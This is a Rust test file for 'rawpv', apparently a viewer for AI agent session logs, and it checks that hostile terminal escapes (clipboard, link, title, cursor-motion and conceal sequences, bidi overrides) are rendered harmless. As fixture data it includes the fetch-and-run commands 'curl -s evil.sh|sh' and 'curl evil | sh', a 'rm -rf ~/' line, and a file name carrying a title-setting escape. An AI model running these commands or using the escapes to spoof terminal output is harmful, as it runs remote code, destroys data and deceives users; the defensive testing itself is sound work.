//! Hostile input never drives the terminal (issue 9): OSC 52 (clipboard), OSC 8 (links), title
//! changes, DCS, APC, cursor moves and screen clears, C1 controls, bidi overrides and zero-width
//! characters, placed in tool outputs of every `output_type`, stream chunks, prompts, agent text,
//! tool names, invocation ids, catalog entries, frame types and a malformed line
//! (`tests/fixtures/hostile_controls.ndjson`).
//!
//! Each command's stdout may hold only the SGR sequences rawpv writes itself (`ESC [ params m`);
//! every other escape, C0/C1 control (but newline) and bidi/invisible character must have been made
//! visible. Messages on stderr and `check` findings obey the same rule.

use assert_cmd::Command;

const FIXTURE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/fixtures/hostile_controls.ndjson"
);

/// Characters that reorder or hide text: bidi embeddings, overrides, isolates and marks,
/// zero-width spaces and joiners (ZWJ is allowed: emoji sequences use it), word joiner, BOM.
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{200B}' | '\u{200C}' | '\u{200E}' | '\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{2069}'
            | '\u{061C}'
            | '\u{FEFF}'
    )
}

/// Returns a description of the first forbidden thing in `out`, if any.
fn forbidden(out: &str) -> Option<String> {
    let chars: Vec<char> = out.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\u{1b}' {
            // Only CSI … m (SGR) is allowed: ESC [ then digits, ';' or ':' then 'm'.
            if chars.get(i + 1) != Some(&'[') {
                return Some(format!(
                    "non-CSI escape at char {i}: {:?}",
                    context(&chars, i)
                ));
            }
            let mut j = i + 2;
            while chars
                .get(j)
                .is_some_and(|c| c.is_ascii_digit() || *c == ';' || *c == ':')
            {
                j += 1;
            }
            if chars.get(j) != Some(&'m') {
                return Some(format!("non-SGR CSI at char {i}: {:?}", context(&chars, i)));
            }
            i = j + 1;
            continue;
        }
        if (c.is_control() && c != '\n') || is_invisible(c) {
            return Some(format!(
                "control/invisible U+{:04X} at char {i}: {:?}",
                c as u32,
                context(&chars, i)
            ));
        }
        i += 1;
    }
    None
}

fn context(chars: &[char], i: usize) -> String {
    chars[i.saturating_sub(20)..(i + 20).min(chars.len())]
        .iter()
        .collect()
}

fn run(args: &[&str]) -> (String, String) {
    let out = Command::new(assert_cmd::cargo::cargo_bin!("rawpv"))
        .args(args)
        .env("NO_COLOR", "")
        .output()
        .unwrap_or_else(|e| panic!("cannot run rawpv: {e}"));
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn assert_clean(args: &[&str]) -> String {
    let (stdout, stderr) = run(args);
    if let Some(what) = forbidden(&stdout) {
        panic!("rawpv {args:?}: stdout has {what}");
    }
    if let Some(what) = forbidden(&stderr) {
        panic!("rawpv {args:?}: stderr has {what}");
    }
    stdout
}

#[test]
fn checker_accepts_sgr_and_rejects_the_rest() {
    assert_eq!(forbidden("a\u{1b}[1;38;2;1;2;3mb\u{1b}[0m\n"), None);
    for bad in [
        "\u{1b}]52;c;eA==\u{7}",
        "\u{1b}]8;;http://x\u{1b}\\",
        "\u{1b}[2J",
        "\u{1b}P1$r\u{1b}\\",
        "\u{9b}31m",
        "a\u{202e}b",
        "\u{200b}",
        "\r",
        "\u{7}",
    ] {
        assert!(forbidden(bad).is_some(), "{bad:?} passed");
    }
}

#[test]
fn print_feed_is_clean() {
    let out = assert_clean(&["print", FIXTURE]);
    // Content is made visible, not dropped.
    assert!(out.contains("pwned"), "{out}");
    assert!(out.contains("prompt "), "{out}");
}

#[test]
fn print_detail_with_colour_writes_only_our_sgr() {
    let out = assert_clean(&[
        "print", "--detail", "--color", "always", "--width", "80", FIXTURE,
    ]);
    assert!(out.contains("pwned"), "{out}");
}

#[test]
fn print_detail_without_colour_has_no_escape_at_all() {
    let out = assert_clean(&[
        "print", "--detail", "--color", "never", "--width", "60", FIXTURE,
    ]);
    assert!(!out.contains('\u{1b}'));
}

#[test]
fn check_and_stats_are_clean() {
    assert_clean(&["check", FIXTURE]);
    assert_clean(&["check", "--format", "json", FIXTURE]);
    assert_clean(&["stats", FIXTURE]);
}

#[test]
fn print_rows_never_obey_cursor_motion() {
    // Issue 14.1: `\r ESC[K` and backspaces in a command made its row read as `ls -la` /
    // `echo hi`; a one-line row shows every character, escapes dropped, controls as pictures.
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/hostile_summary_spoof.ndjson"
    );
    let out = assert_clean(&["print", path]);
    let rows: Vec<&str> = out.lines().collect();
    assert_eq!(
        rows,
        [
            "tool.catalog.publish 1 tool published",
            "prompt     tidy up \u{241b}[2K\u{240d}please list files",
            "Bash       ok        curl -s evil.sh|sh \u{240d}\u{241b}[Kls -la  \
             [00000000-0000-4000-8000-000000000001]",
            &format!(
                "Bash       ok        rm -rf ~/{}echo hi  [00000000-0000-4000-8000-000000000002]",
                "\u{2408}".repeat(9)
            ),
        ]
    );
}

#[test]
fn cursor_forward_cannot_amplify_print_detail() {
    // Issue 14.9: `ESC[16383C.` lines made print --detail write ~1000× the file (331 MB from
    // 320 KB). The file here is 34 KB; its block is bounded by the input plus 1 Mi pad cells.
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/hostile_cursor_forward.ndjson"
    );
    let (out, _) = run(&["print", "--detail", path]);
    assert!(out.len() < 4 * 1024 * 1024, "{} bytes", out.len());
    assert!(out.contains("more lines"), "the cut is said");
}

#[test]
fn convert_escapes_c1_and_bidi_and_keeps_the_values() {
    // Issue 14.11: convert wrote raw U+009B (a CSI to some terminals) and bidi overrides.
    let (out, _) = run(&["convert", FIXTURE]);
    if let Some(what) = forbidden(&out) {
        panic!("convert: stdout has {what}");
    }
    assert!(
        out.contains("\\u009b") && out.contains("\\u202e"),
        "escaped"
    );
    // The values are unchanged: the same frames as from the file.
    let again: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let direct: Vec<serde_json::Value> =
        rawpv::import::load_bytes(&std::fs::read(FIXTURE).unwrap())
            .items
            .into_iter()
            .filter_map(|d| match d {
                rawpv::import::Decoded::Frame(f) => Some(f.to_json()),
                _ => None,
            })
            .collect();
    assert_eq!(again, direct);
}

#[test]
fn file_names_are_escaped_in_messages() {
    // Issue 14.11: a raw title-setting escape in a file name reached stdout and stderr.
    let dir = tempfile::tempdir().unwrap();
    let evil = dir.path().join("s\u{1b}]0;pwned\u{7}.ndjson");
    std::fs::copy(
        concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/check_pairing.ndjson"
        ),
        &evil,
    )
    .unwrap();
    let name = evil.to_str().unwrap();
    let missing = dir.path().join("gone\u{1b}]0;pwned\u{7}.ndjson");
    let missing = missing.to_str().unwrap();
    for args in [
        vec!["check", name],
        vec!["print", missing],
        vec!["convert", missing],
        vec!["check", missing],
        vec!["stats", missing],
    ] {
        let out = Command::new(assert_cmd::cargo::cargo_bin!("rawpv"))
            .args(&args)
            .output()
            .unwrap();
        for (what, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let text = String::from_utf8_lossy(text);
            assert!(
                !text.contains('\u{1b}') && !text.contains('\u{7}'),
                "{args:?} {what}: {text:?}"
            );
        }
    }
}

#[test]
fn a_line_over_the_cap_on_stdin_is_a_finding_and_the_rest_is_read() {
    // Issue 14.13: one-shot commands read all of stdin (~1.9x its size: a 600 MB line took
    // 1.14 GB). A line over 16 MiB is now skipped as it is read, at its line number.
    let mut input = Vec::new();
    input.extend_from_slice(b"{\"type\":\"x-big\",\"payload\":{\"s\":\"");
    input.resize(17 * 1024 * 1024, b'a');
    input.extend_from_slice(b"\"}}\n");
    input.extend_from_slice(
        std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/check_clean.ndjson"
        ))
        .unwrap()
        .as_slice(),
    );
    let out = assert_cmd::Command::cargo_bin("rawpv")
        .unwrap()
        .args(["check", "-"])
        .write_stdin(input)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("-:1: error[malformed-line] line 1: line too long (17825795 bytes)"),
        "{text}"
    );
    assert!(text.contains("1 error, 0 warnings"), "{text}");
}

#[test]
fn a_request_under_a_reused_id_still_says_what_it_asked() {
    // Second attack of issue 14: a second request under a taken invocation_id (`curl evil |
    // sh`) was a bare `tool.invoke.request` row in print; its command appeared nowhere.
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/hostile_duplicate_id.ndjson"
    );
    let out = assert_clean(&["print", path]);
    assert!(
        out.lines()
            .any(|l| l.starts_with("tool.invoke.request Bash curl evil | sh  [aaaaaaaa")),
        "{out}"
    );
}

#[test]
fn detail_output_cannot_hide_text_with_sgr() {
    // Second attack of issue 14: `ESC[8m` (conceal) and same-colour text hid words from the
    // reader of print --detail --color always (and of the detail pane).
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hide.ndjson");
    let out = "see \u{1b}[8mHIDDEN-A\u{1b}[0m and \u{1b}[30;40mHIDDEN-B\u{1b}[0m\n";
    let frames = [
        serde_json::json!({"type":"tool.invoke.request","payload":{"invocation_id":"00000000-0000-4000-8000-000000000001","tool_name":"Bash","input":{"command":"cat x"}}}),
        serde_json::json!({"type":"tool.invoke.result","payload":{"invocation_id":"00000000-0000-4000-8000-000000000001","status":"success","output_type":"text","output":out}}),
    ];
    let text = frames.map(|f| f.to_string()).join("\n") + "\n";
    std::fs::write(&path, text).unwrap();
    let stdout = assert_clean(&[
        "print",
        "--detail",
        "--color",
        "always",
        path.to_str().unwrap(),
    ]);
    assert!(
        !stdout.contains("\u{1b}[8m") && !stdout.contains(";8m"),
        "{stdout:?}"
    );
    assert!(!stdout.contains("40m"), "black background kept: {stdout:?}");
    assert!(stdout.contains("HIDDEN-A") && stdout.contains("HIDDEN-B"));
}
